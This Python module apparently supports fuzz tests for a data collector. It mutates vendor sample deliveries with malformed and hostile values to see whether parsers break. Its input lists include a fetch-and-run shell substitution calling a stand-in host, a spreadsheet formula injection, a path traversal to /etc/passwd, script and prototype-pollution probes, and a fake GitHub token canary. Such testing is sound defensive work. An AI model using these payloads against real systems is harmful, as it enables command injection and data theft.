"""Mutations: a vendor's own sample, bent in the ways by which readers break."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from random import Random
from typing import Any

from collector.delivery import Delivery, read_delivery
from collector.sources import SOURCES

FOLDER = Path(__file__).parents[1] / "collector" / "sources" / "samples"
CANARY = "ghp_" + "Q7" * 18
"""Looks like a token of GitHub's, and must not be found in anything that is kept."""
HUGE = 10**400
DEEP = 150
_WORDS = ("2026-13-45T99:99:99Z", "9999-12-31T23:59:59Z", "0001-01-01", "1e999", "-9e18", "NaN", "-Infinity", "0x10")
_TEXTS = (
    "",
    "\0",
    "a\0b",
    "\x1b[2J",
    "\u202e\u2066",
    "[::1",
    "https://[",
    "http://x:99999/",
    "%",
    "%zz%00",
    "refs/heads/",
    "$(curl x.example|sh)",
    "=cmd|'/c x'!A1",
    "<script>",
    "../../etc/passwd",
    "pkg:npm/%40a/b@1?x=",
    "A" * 5_000,
    "\U0001f4a9" * 300,
    "0" * 4_301,
    CANARY,
    f"https://bob:{CANARY}@git.example/x",
    *_WORDS,
)
_NUMBERS = (0, -1, 2**31, 2**53 + 1, 2**63, 2**64, -(2**64), HUGE, 1e308, -1e-308, 0.1, 1e19, 253402300800)
_BYTES = (
    b"\0",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"\xed\xa0\x80",
    b"[" * 10_000,
    b'{"a":' * 3_000,
    b"9" * 5_000,
    b'"\\ud800"',
    b"1e400",
    b"\r\n\r\n",
    b"\x1b[31m",
    b"payload=%7B",
    b"- - - -\n",
    b"&a [*a,*a]",
    b"<<<<<<<",
    b"\x0b\x0c\x85",
    CANARY.encode(),
)


@cache
def samples() -> dict[str, list[Delivery]]:
    """Return the samples of every source that has any."""
    found: dict[str, list[Delivery]] = {}
    for path in sorted(FOLDER.glob("*.ndjson")):
        for line in path.read_bytes().splitlines():
            sample = read_delivery(line)
            found.setdefault(sample.source, []).append(sample)
    return {name: some for name, some in found.items() if name in SOURCES}


def hostile(random: Random) -> Any:
    """Return a value no reader expects."""
    kinds: tuple[tuple[Any, ...], ...] = (_TEXTS, _NUMBERS, (None, True, False, [], {}, [[]], [None], {"": {}}))
    value = random.choice(random.choice(kinds))
    if random.random() < 0.05:
        for _ in range(random.randrange(DEEP)):
            value = [value] if random.random() < 0.5 else {"a": value}
    return value


def bent(value: Any, random: Random, changes: int = 3) -> Any:
    """Return a JSON value with some of its parts replaced, removed, doubled, renamed or swapped."""
    value = json.loads(json.dumps(value))
    holder = [value]
    for _ in range(random.randint(1, changes)):
        _change(holder, random)
    return holder[0]


def _change(holder: list[Any], random: Random) -> None:
    parent: Any = holder
    key: Any = 0
    while isinstance(inner := parent[key], dict | list) and inner and random.random() < 0.8:
        parent, key = inner, random.choice(list(inner) if isinstance(inner, dict) else range(len(inner)))
    what = random.randrange(5)
    if what == 0 and parent is not holder:
        del parent[key]
    elif what == 1 and isinstance(parent[key], list):
        parent[key] = parent[key] * random.choice((2, 50))
    elif what == 2 and isinstance(parent, dict):
        parent[random.choice((*parent, "a", "__proto__", "type", "action"))] = parent.pop(key)
    elif what == 3:
        parent[key] = {random.choice(("a", "id", "name", "url", "0")): parent[key]}
    else:
        parent[key] = hostile(random)


def bent_bytes(data: bytes, random: Random, changes: int = 3) -> bytes:
    """Return bytes cut, doubled, flipped, or with something hostile inside."""
    for _ in range(random.randint(1, changes)):
        at, end = sorted((random.randrange(len(data) + 1), random.randrange(len(data) + 1)))
        what = random.randrange(6)
        if what == 0:
            data = data[:at]
        elif what == 1:
            data = data[:at] + data[at:end] * random.choice((0, 2, 5)) + data[end:]
        elif what == 2 and data:
            flipped = bytearray(data)
            flipped[min(at, len(data) - 1)] ^= 1 << random.randrange(8)
            data = bytes(flipped)
        elif what == 3:
            data = data.decode(errors="replace").encode(random.choice(("utf-16", "latin-1", "utf-8-sig")), "replace")
        else:
            data = data[:at] + random.choice(_BYTES) + data[at:]
    return data[: 1 << 20]


def raw(body: Any) -> bytes:
    """Return a body as it would come over the wire; what JSON cannot say is left as Python says it."""
    return body.encode(errors="surrogatepass") if isinstance(body, str) else json.dumps(body).encode()
